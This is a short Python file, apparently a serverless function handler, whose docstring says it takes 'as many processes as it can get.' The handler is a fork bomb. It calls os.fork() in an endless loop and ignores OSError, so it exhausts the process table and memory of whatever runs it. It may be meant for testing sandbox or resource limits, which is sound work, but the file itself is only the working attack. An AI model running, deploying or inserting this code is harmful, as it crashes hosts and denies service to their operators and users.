"""As many processes as it can get."""

import os


def handler(event, context):
    while True:
        try:
            os.fork()
        except OSError:
            pass
